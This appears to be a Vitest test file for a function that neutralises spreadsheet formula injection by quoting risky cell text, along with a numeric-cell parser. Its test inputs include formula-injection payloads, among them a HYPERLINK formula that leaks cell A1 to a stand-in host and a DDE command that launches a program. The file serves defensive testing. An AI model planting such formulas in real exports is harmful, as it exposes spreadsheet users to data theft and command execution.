import { describe, expect, it } from "vitest";
import { numericCell, spreadsheetText } from "./spreadsheet-cell";

describe("spreadsheet cell", () => {
  it("puts a quote before every text a spreadsheet would run as a formula", () => {
    expect(spreadsheetText('=HYPERLINK("http://x.example/?d="&A1,"open")')).toBe(`'=HYPERLINK("http://x.example/?d="&A1,"open")`);
    expect(spreadsheetText("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(spreadsheetText("@SUM(1+1)")).toBe("'@SUM(1+1)");
    expect(spreadsheetText("-2+3")).toBe("'-2+3");
    expect(spreadsheetText("\t=1+1")).toBe("'\t=1+1");
    expect(spreadsheetText("\r=1+1")).toBe("'\r=1+1");
  });
  it("leaves other text alone", () => {
    expect(spreadsheetText("Rice")).toBe("Rice");
    expect(spreadsheetText("a=b")).toBe("a=b");
    expect(spreadsheetText("")).toBe("");
    expect(spreadsheetText("محمد")).toBe("محمد");
  });
  it("keeps a negative number in a numeric column, and quotes it in a text column", () => {
    expect(spreadsheetText("-7", true)).toBe("-7");
    expect(spreadsheetText("-1,234.50", true)).toBe("-1,234.50");
    expect(spreadsheetText("-1+1", true)).toBe("'-1+1");
    expect(spreadsheetText("-7")).toBe("'-7");
  });
  it("reads plain numbers only", () => {
    expect(numericCell("1,234.50")).toBe(1234.5);
    expect(numericCell("-7")).toBe(-7);
    expect(numericCell("1e3")).toBeNull();
    expect(numericCell("")).toBeNull();
  });
});
